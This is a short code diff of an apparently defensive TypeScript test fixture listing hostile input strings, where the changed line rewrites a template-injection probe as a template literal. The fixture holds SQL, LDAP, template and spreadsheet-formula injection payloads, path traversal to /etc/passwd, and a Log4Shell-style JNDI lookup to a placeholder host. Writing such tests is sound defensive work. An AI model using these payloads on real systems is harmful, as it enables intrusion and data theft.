@@ -29,7 +29,7 @@ const hostileTexts: Readonly<Record<string, string>> = {
   'a statement': "'); DROP TABLE users; --",
   'a directory query': '*)(uid=*))(|(uid=*',
   'a format': '%s%n%x$' + '{jndi:ldap://a.example/a}',
-  'a template': '{{7*7}}${7*7}<%= 7*7 %>#{7*7}',
+  'a template': `{{7*7}}\${7*7}<%= 7*7 %>#{7*7}`,
   'a path': '../../../../etc/passwd',
   'an escaped path': '..%2f..%2f%00',
   'a formula': '=HYPERLINK("https://a.example","a")',
